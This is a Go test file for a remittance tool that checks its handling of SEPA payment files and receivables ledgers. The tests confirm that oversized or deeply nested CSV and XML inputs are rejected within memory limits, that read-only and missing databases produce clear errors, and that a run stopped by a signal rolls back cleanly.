func TestHostileInputsBounded(t *testing.T) {
	w := newWorkspace(t)
	w.initDB()
	l := genLedger(t, "A", 3000)
	w.must("import", w.writeFile("receivables.csv", l.csv))
	w.must("run", "--no-bordereau")

	const huge = 256 << 20
	for _, tc := range []struct {
		name, path, want string
	}{
		{"long line", sparseFile(t, filepath.Join(w.dir, "line.csv"), csvHeader+"F1,411A,", huge),
			"line 2: too long: a line longer than 65536 bytes"},
		{"header of NULs", sparseFile(t, filepath.Join(w.dir, "nul.csv"), "", huge),
			"line 1: too long: a line longer than 65536 bytes"},
		{"quote left open", w.writeFile("quote.csv", []byte(csvHeader+`F1,411A,"`+strings.Repeat("x\n", 200_000))),
			"too long: a record longer than 262144 bytes"},
	} {
		r, rss := w.runRSS("import", tc.path)
		if r.code != 1 || !strings.Contains(r.stderr, tc.want) || !strings.Contains(r.stderr, "nothing imported") {
			t.Errorf("%s: want exit 1 saying %q\n%s", tc.name, tc.want, r)
		}
		if rss > maxRSS {
			t.Errorf("%s: %d MB of memory for the import", tc.name, rss>>20)
		}
	}

	// A header of many unknown columns: each reported once, a screenful.
	cols := csvHeader[:len(csvHeader)-1]
	for i := range 5000 {
		cols += fmt.Sprintf(",x%d", i%2500)
	}
	r := w.run("import", w.writeFile("cols.csv", []byte(cols+"\n")))
	if lines := strings.Count(r.stderr, "\n"); r.code != 1 || lines > 30 || !strings.Contains(r.stderr, "and 2480 more wrong columns") {
		t.Errorf("a header of 2500 unknown columns twice: want exit 1 and at most 30 lines, got %d lines\n%s", lines, r)
	}

	pain002 := func(body string) string {
		return `<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.10"><CstmrPmtStsRpt>
<GrpHdr><MsgId>BANK-1</MsgId><CreDtTm>2026-11-25T07:00:00</CreDtTm></GrpHdr>
<OrgnlGrpInfAndSts><OrgnlMsgId>X</OrgnlMsgId><OrgnlMsgNmId>pain.008.001.08</OrgnlMsgNmId></OrgnlGrpInfAndSts>
<OrgnlPmtInfAndSts><OrgnlPmtInfId>P</OrgnlPmtInfId>` + body + `</OrgnlPmtInfAndSts></CstmrPmtStsRpt></Document>
`
	}
	tx := func(e2e, info string) string {
		return `<TxInfAndSts><OrgnlEndToEndId>` + e2e + `</OrgnlEndToEndId><TxSts>RJCT</TxSts><StsRsnInf><Rsn><Cd>AM04</Cd></Rsn><AddtlInf>` +
			info + `</AddtlInf></StsRsnInf></TxInfAndSts>`
	}
	big := tx("UNKNOWN-1", strings.Repeat("A", 64<<20))
	deep := tx("UNKNOWN-2", "x") + strings.Repeat("<SplmtryData>", 200_000) + strings.Repeat("</SplmtryData>", 200_000)
	for _, tc := range []struct{ name, data, want string }{
		{"64 MB text", big, "a text, tag or comment longer than 1048576 bytes"},
		{"200,000 levels", deep, "elements nested more than 100 deep"},
	} {
		for _, cmd := range []string{"returns", "verify"} {
			data := pain002(tc.data)
			if cmd == "verify" { // the same, in a pain.008
				data = `<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.008.001.08"><CstmrDrctDbtInitn>` + tc.data +
					`</CstmrDrctDbtInitn></Document>`
			}
			r, rss := w.runRSS(cmd, w.writeFile("hostile.xml", []byte(data)))
			if r.code != 1 || !strings.Contains(r.stdout+r.stderr, tc.want) {
				t.Errorf("%s %s: want exit 1 saying %q\n%s", cmd, tc.name, tc.want, r)
			}
			if rss > maxRSS {
				t.Errorf("%s %s: %d MB of memory", cmd, tc.name, rss>>20)
			}
			if r.took > 10*time.Second {
				t.Errorf("%s %s: %v", cmd, tc.name, r.took)
			}
		}
	}

	// Unknown transactions cost the same whatever the database holds: each
	// is one search in an index, not a scan of the creditor's items.
	var body strings.Builder
	for i := range 20_000 {
		body.WriteString(tx(fmt.Sprintf("UNKNOWN-%06d", i), "x"))
	}
	r = w.run("returns", w.writeFile("unknown.xml", []byte(pain002(body.String()))))
	if r.code == 0 || !strings.Contains(r.stdout+r.stderr, "UNKNOWN-019999") {
		t.Errorf("20,000 unknown transactions: want each reported\n%s", r)
	}
	t.Logf("20,000 unknown transactions against %d items: %v", len(l.docs), r.took)
}

// Item 11: a database that does not exist leaves no lock file behind; a
// database in a folder that cannot be written (here a read-only mount) is
// read by the reading commands, and the others say why they cannot write
// (SQLite's journal beside the file), instead of SQLite's "unable to open
// database file (14)".
func TestMissingAndReadOnlyDatabases(t *testing.T) {
	w := newWorkspace(t)
	missing := filepath.Join(w.dir, "missing.db")
	for _, cmd := range []string{"run", "list", "remittances"} {
		r := w.run("--db", missing, cmd)
		if r.code != 2 || !strings.Contains(r.stderr, "no database") {
			t.Errorf("%s on a missing database: want exit 2 saying so\n%s", cmd, r)
		}
	}
	if entries, _ := os.ReadDir(w.dir); len(entries) != 0 {
		t.Errorf("left behind by commands on a missing database: %v", entries)
	}

	ro := filepath.Join(w.dir, "ro")
	mountTmpfs(t, ro, 16<<20)
	w.db = filepath.Join(ro, "remit.db")
	w.initDB()
	l := genLedger(t, "A", 30)
	w.must("import", w.writeFile("a.csv", l.csv))
	w.must("run", "--no-bordereau")
	remount := func(mode string) {
		t.Helper()
		if out, err := exec.Command("mount", "-o", "remount,"+mode, ro).CombinedOutput(); err != nil {
			t.Fatalf("remount %s: %v %s", mode, err, out)
		}
	}
	remount("ro")
	for _, args := range [][]string{append([]string{"list", "--status", "all"}, everything...), {"remittances"}, {"show", "001"},
		{"entries", "1", "--format", "csv"}} {
		if r := w.run(args...); r.code != 0 || r.stdout == "" {
			t.Errorf("a reading command in a read-only folder: want it to work\n%s", r)
		}
	}
	b := genLedger(t, "B", 5)
	for _, args := range [][]string{{"import", w.writeFile("b.csv", b.csv)}, {"run"}, {"init"},
		append([]string{"point", "--method", "sdd"}, everything...)} {
		r := w.run(args...)
		if r.code != 1 || !strings.Contains(r.stderr, "the database's folder cannot be written ("+ro+")") ||
			strings.Contains(r.stderr, "(14)") {
			t.Errorf("a writing command in a read-only folder: want exit 1 saying why\n%s", r)
		}
	}

	// Changes still in the journal cannot be read without writing.
	remount("rw")
	w.must("import", w.writeFile("b.csv", b.csv))
	if r := w.runEnv([]string{"REMIT_CRASH_AT=after-commit"}, "run", "--no-bordereau"); !r.killed {
		t.Fatalf("the run was not killed after its commit: %s", r)
	}
	remount("ro")
	r := w.run("remittances")
	if r.code != 1 || !strings.Contains(r.stderr, "its journal remit.db-wal holds changes") {
		t.Errorf("a read-only folder with a journal: want exit 1 saying so\n%s", r)
	}
}

// runSummary is what remit run --json prints, as far as these tests look.
type runSummary struct {
	Status      string `json:"status"`
	ExitStatus  int    `json:"exit_status"`
	Error       string `json:"error"`
	Remittances []struct {
		Ref string `json:"ref"`
	} `json:"remittances"`
}

// Item 10: SIGTERM or SIGINT stops a run at its next safe point: the part
// under way rolls back and its files and marks go, what was committed stays
// and is listed, a log line says so, and remit exits 128 + the signal (143,
// 130); the next run then ends exactly where an uninterrupted one does.
func TestSignalStopsRunCleanly(t *testing.T) {
	tmpl, l := crashTemplate(t)
	withSlip := []string{"run"}
	for _, tc := range []struct {
		at, signal string
		committed  int // remittances committed before the signal
	}{
		{"before-rename:1", "TERM", 0},
		{"after-file:2", "TERM", 0},
		{"before-commit:1", "TERM", 0}, // the commit itself is refused
		{"after-commit:1", "INT", 2},   // SEPA committed: the LCR part is not started
		{"before-rename:5", "TERM", 2}, // the LCR file being written
		{"before-commit:2", "INT", 2},
	} {
		t.Run(tc.at+"-"+tc.signal, func(t *testing.T) {
			base := baseline(t, withSlip...)
			w := tmpl.clone(t)
			w.t = t
			r := w.runEnv([]string{"REMIT_CRASH_AT=" + tc.at, "REMIT_CRASH_SIGNAL=" + tc.signal}, "run", "--json")
			want := map[string]int{"TERM": 143, "INT": 130}[tc.signal]
			var sum runSummary
			if err := json.Unmarshal([]byte(r.stdout), &sum); err != nil {
				t.Fatalf("%v\n%s", err, r)
			}
			if r.code != want || sum.Status != "interrupted" || sum.ExitStatus != want || len(sum.Remittances) != tc.committed {
				t.Errorf("want exit %d, status interrupted, %d remittances\n%s", want, tc.committed, r)
			}
			if !strings.Contains(r.stderr, `msg="run interrupted"`) || !strings.Contains(r.stderr, "signal=SIG"+tc.signal) {
				t.Errorf("no log line for the signal:\n%s", r.stderr)
			}
			wantRemittances(t, w, tc.committed)
			// Nothing of the rolled-back part: no temporary file, no mark, no
			// file that no remittance records.
			w.checkConsistent(l.docs, false)
			finishAfterCrash(t, w, l, base, true, withSlip...)
		})
	}

	// An import stopped before its commit keeps nothing.
	t.Run("import", func(t *testing.T) {
		w := tmpl.clone(t)
		w.t = t
		b := genLedger(t, "B", 500)
		r := w.runEnv([]string{"REMIT_CRASH_AT=before-commit", "REMIT_CRASH_SIGNAL=TERM"}, "import", w.writeFile("b.csv", b.csv))
		if r.code != 143 || !strings.Contains(r.stderr, "interrupted by SIGTERM") {
			t.Errorf("import: want exit 143 saying so\n%s", r)
		}
		if n := w.queryInt(`SELECT count(*) FROM receivables WHERE document LIKE 'B-%'`); n != 0 {
			t.Errorf("the interrupted import left %d receivables", n)
		}
	})

	// SIGTERM at any moment, from outside, as a service manager sends it.
	base := baseline(t, withSlip...)
	for _, frac := range []float64{0.2, 0.5, 0.8} {
		t.Run(fmt.Sprintf("at-%02.0f%%", frac*100), func(t *testing.T) {
			w := tmpl.clone(t)
			w.t = t
			cmd := w.command(t.Context(), nil, withSlip...)
			var stderr strings.Builder
			cmd.Stderr = &stderr
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			time.Sleep(time.Duration(frac * float64(base.took)))
			cmd.Process.Signal(syscall.SIGTERM)
			code, _ := exitStatus(t, cmd, cmd.Wait())
			if code != 143 && code != 0 {
				t.Fatalf("exit %d after SIGTERM, want 143 (or 0 when it had finished):\n%s", code, stderr.String())
			}
			t.Logf("SIGTERM after %v: exit %d", time.Duration(frac*float64(base.took)), code)
			w.checkConsistent(l.docs, false)
			finishAfterCrash(t, w, l, base, false, withSlip...)
		})
	}
}
